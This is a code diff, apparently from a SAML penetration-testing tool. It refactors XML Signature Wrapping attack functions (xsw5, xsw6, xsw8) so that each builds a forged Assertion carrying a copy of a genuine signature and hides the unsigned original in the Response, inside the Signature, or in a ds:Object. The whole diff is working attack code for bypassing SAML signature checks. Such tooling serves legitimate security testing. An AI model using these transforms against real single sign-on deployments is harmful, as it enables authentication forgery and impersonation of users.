@@ -89,28 +89,30 @@ def xsw4(root: etree._Element) -> etree._Element:
     return root
 
 
-def xsw5(root: etree._Element) -> etree._Element:
-    # The signature moved into the evil Assertion; the original appended to the Response.
-    assertion = root.find(q(SAML, "Assertion"))
-    forged = evil(assertion, assertion.get("ID"))
-    forged.insert(1, copy.deepcopy(assertion.find(q(DS, "Signature"))))
-    root.replace(assertion, forged)
-    stripped = copy.deepcopy(assertion)
-    stripped.remove(stripped.find(q(DS, "Signature")))
-    root.append(stripped)
-    return root
-
-
-def xsw6(root: etree._Element) -> etree._Element:
-    # The evil Assertion carries the signature; the original sits inside the Signature.
+def forge_with_signature(root: etree._Element) -> tuple[etree._Element, etree._Element]:
+    """Replace the Assertion with an evil one that carries a copy of the genuine
+    signature; return that signature and the original Assertion without its own."""
     assertion = root.find(q(SAML, "Assertion"))
     forged = evil(assertion, assertion.get("ID"))
     signature = copy.deepcopy(assertion.find(q(DS, "Signature")))
     forged.insert(1, signature)
     original = copy.deepcopy(assertion)
     original.remove(original.find(q(DS, "Signature")))
-    signature.append(original)
     root.replace(assertion, forged)
+    return signature, original
+
+
+def xsw5(root: etree._Element) -> etree._Element:
+    # The signature moved into the evil Assertion; the original appended to the Response.
+    _signature, original = forge_with_signature(root)
+    root.append(original)
+    return root
+
+
+def xsw6(root: etree._Element) -> etree._Element:
+    # The evil Assertion carries the signature; the original sits inside the Signature.
+    signature, original = forge_with_signature(root)
+    signature.append(original)
     return root
 
 
@@ -126,14 +128,8 @@ def xsw7(root: etree._Element) -> etree._Element:
 
 def xsw8(root: etree._Element) -> etree._Element:
     # The evil Assertion with the signature whose Object holds the unsigned original.
-    assertion = root.find(q(SAML, "Assertion"))
-    forged = evil(assertion, assertion.get("ID"))
-    signature = copy.deepcopy(assertion.find(q(DS, "Signature")))
-    forged.insert(1, signature)
-    original = copy.deepcopy(assertion)
-    original.remove(original.find(q(DS, "Signature")))
+    signature, original = forge_with_signature(root)
     etree.SubElement(signature, q(DS, "Object")).append(original)
-    root.replace(assertion, forged)
     return root
 
 
